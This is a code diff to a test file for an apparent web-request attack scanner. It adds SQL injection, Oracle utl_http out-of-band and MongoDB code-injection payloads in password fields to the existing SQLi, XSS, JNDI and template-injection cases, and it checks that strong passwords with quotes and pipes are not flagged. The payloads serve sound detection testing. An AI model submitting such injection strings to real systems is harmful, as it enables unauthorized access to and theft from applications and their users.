@@ -405,6 +405,10 @@ test("a password or secret field is still read for the attacks such a field is s
     [JSON.stringify({ username: "admin", password: "' or '1'='1" }), "sqli"], [JSON.stringify({ password: "'or'1'='1" }), "sqli"],
     [JSON.stringify({ password: "admin' -- " }), "sqli"], [JSON.stringify({ password: "admin' #" }), "sqli"], [JSON.stringify({ password: "<script>alert(1)</script>" }), "xss"],
     [JSON.stringify({ api_key: "${jndi:ldap://x.example/a}" }), "jndi"], [JSON.stringify({ password: "{{7*7}}" }), "ssti"],
+    // percent-encoded inside JSON, a concatenation around a call, MongoDB $where code after a quote
+    [JSON.stringify({ api_key: "admin%27--" }), "sqli"], [JSON.stringify({ password: "admin%2527%2520%2523" }), "sqli"],
+    [JSON.stringify({ password: "'||utl_http.request('httP://192.168.1.1/')||'" }), "sqli"], [JSON.stringify({ password: "' && this.password.match(/.*/)//+%00" }), "sqli"],
+    [JSON.stringify({ password: "';return 'a'=='a' && ''=='" }), "sqli"],
   ] as const) {
     const r = scanJson(body);
     assert.ok(r.attacks.has(attack), `${body}: ${[...r.attacks]}`);
@@ -419,7 +423,7 @@ test("a password or secret field is still read for the attacks such a field is s
   const form = withBytes("username=admin&password=%27%20or%20%271%27%3D%271", (p, n) => { h.inspect(p, n, 1, 0); const a = new Set<number>(); for (let i = 0; i < h.findingCount(); i++) a.add(h.findingAttack(i)); return a; });
   assert.ok(form.has(ATTACK_CLASSES.indexOf("sqli")), "form password");
   // Strong passwords spell quotes, semicolons, '&', '$(' and '|' by chance: no attack.
-  for (const pw of ["Tr0ub4dor&3;(x", "D3J+c@$F(l", "a'b;c\"d|e&f$(g)", "P@ss'w0rd--x", "q8#R!v$2&Lm^"]) {
+  for (const pw of ["Tr0ub4dor&3;(x", "D3J+c@$F(l", "a'b;c\"d|e&f$(g)", "P@ss'w0rd--x", "q8#R!v$2&Lm^", "a'||b", "x%27y", "it's||fine", "-(\"!(PJXU4?}vPyX@Is~`e9"]) {
     assert.deepEqual([...scanJson(JSON.stringify({ password: pw })).attacks], [], pw);
   }
 });
